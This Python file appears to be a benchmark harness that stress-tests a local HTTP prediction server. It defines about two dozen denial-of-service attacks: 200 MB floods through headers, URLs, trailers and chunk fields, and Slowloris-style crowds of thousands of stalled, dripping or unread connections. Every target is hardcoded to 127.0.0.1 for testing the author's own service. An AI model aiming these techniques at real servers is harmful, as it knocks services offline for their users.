"""The attacks of the siege: what someone without a key can send. Never beyond 127.0.0.1.

python -m benchmarks.siege_attacks NAME PORT SECONDS
"""

from __future__ import annotations

import contextlib
import json
import resource
import select
import socket
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass

MEGABYTES, CONNECTIONS = 200, 5000
OPENED_PER_SECOND = 1000
_POST = b"POST /predict HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
_FILLER = b"a" * 65536
_LINES = b"X-Filler: " + b"a" * 54 + b"\r\n"


@dataclass(frozen=True)
class Flood:
    """One connection that sends 200 MB, again and again."""

    opening: bytes
    filler: bytes = _FILLER

    def run(self, port: int, until: float) -> dict[str, int]:
        """Attack; how many connections and bytes it took."""
        connections = sent = 0
        while time.monotonic() < until:
            connections += 1
            with contextlib.suppress(OSError), _connect(port) as one:
                one.sendall(self.opening)
                for _ in range(MEGABYTES * 2**20 // len(self.filler)):
                    one.sendall(self.filler)
                    sent += len(self.filler)
                    if time.monotonic() > until:
                        break
        return {"connections": connections, "megabytes": sent >> 20}


@dataclass(frozen=True)
class Crowd:
    """Many connections that send a beginning, perhaps a byte now and then, and never end.

    Whichever is closed is opened again, though not all at once: the attacker shares the machine.
    A deaf crowd reads no answer.
    """

    opening: bytes
    drip: bytes = b""
    size: int = CONNECTIONS
    opened_per_second: int = OPENED_PER_SECOND
    deaf: bool = False

    def run(self, port: int, until: float) -> dict[str, int]:
        """Attack; how many connections it took, and how many were open at the end."""
        crowd: dict[int, socket.socket] = {}
        opened = 0
        started = dripped = time.monotonic()
        with select.epoll() as ears:
            while time.monotonic() < until:
                due = int((time.monotonic() - started) * self.opened_per_second) - opened
                for _ in range(min(50, due, self.size - len(crowd))):
                    opened += self._open(port, crowd, ears)
                self._hear(crowd, ears)
                if self.drip and time.monotonic() - dripped > 1:
                    dripped = time.monotonic()
                    self._drip(crowd)
            left = len(crowd)
            for one in crowd.values():
                one.close()
        return {"connections": opened, "open": left}

    def _open(self, port: int, crowd: dict[int, socket.socket], ears: select.epoll) -> int:
        try:
            one = _connect(port)
        except OSError:
            return 0
        if self.deaf:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.setblocking(False)
        with contextlib.suppress(OSError):
            one.send(self.opening)
        crowd[one.fileno()] = one
        ears.register(one.fileno(), select.EPOLLRDHUP if self.deaf else select.EPOLLIN)
        return 1

    def _hear(self, crowd: dict[int, socket.socket], ears: select.epoll) -> None:
        for number, _ in ears.poll(0.005):
            try:
                gone = self.deaf or not crowd[number].recv(65536)
            except OSError:
                gone = True
            if gone:
                crowd.pop(number).close()

    def _drip(self, crowd: dict[int, socket.socket]) -> None:
        for one in list(crowd.values()):
            with contextlib.suppress(OSError):
                one.send(self.drip)


def _connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=10)


ATTACKS: dict[str, Flood | Crowd] = {
    "header": Flood(_POST + b"X-Filler: "),
    "header name": Flood(_POST),
    "headers": Flood(_POST, _LINES * 1000),
    "url": Flood(b"GET /health?"),
    "method": Flood(b"", b"A" * 65536),
    "trailer": Flood(_CHUNKED + b"0\r\nX-Filler: "),
    "trailers": Flood(_CHUNKED + b"0\r\n", _LINES * 1000),
    "chunk extension": Flood(_CHUNKED + b"2;filler="),
    "chunk sizes": Flood(_CHUNKED, b"1;a=bcdefghijklmnop\r\na\r\n" * 3000),
    "zeros": Flood(_CHUNKED, b"0" * 65536),
    "empty lines": Flood(b"", b"\r\n" * 32768),
    "body nobody reads": Flood(
        b"POST /health HTTP/1.1\r\nHost: a\r\nContent-Length: 209715200\r\n\r\n"
    ),
    "endless body": Flood(_CHUNKED, (b"8000\r\n" + b" " * 32768 + b"\r\n") * 2),
    "silent": Crowd(b""),
    "half a head": Crowd(_POST + b"X-Filler: " + b"a" * 1000),
    "large half head": Crowd(_POST + b"X-Filler: " + b"a" * 30000),
    "half a body": Crowd(_POST + b"Content-Length: 60000\r\n\r\n" + b" " * 50000),
    "half a batch": Crowd(
        _POST.replace(b"predict", b"predict/batch") + b"Content-Length: 600000\r\n\r\n"
        + b" " * 100000
    ),
    "dripping head": Crowd(_POST + b"X-Filler: ", b"a"),
    "dripping body": Crowd(_CHUNKED, b"1\r\n \r\n"),
    "idle": Crowd(b"GET /nothing HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
    "unread answers": Crowd(
        b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 30,
        size=1000, opened_per_second=50, deaf=True,
    ),
    "pipelined": Crowd(
        b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 1000,
        size=1000, opened_per_second=50, deaf=True,
    ),
}  # fmt: skip


def main(name: str, port: str, seconds: str) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 6000), hard), hard))
    run: Callable[[int, float], dict[str, int]] = ATTACKS[name].run
    print(json.dumps(run(int(port), time.monotonic() + float(seconds))))


if __name__ == "__main__":
    main(*sys.argv[1:4])
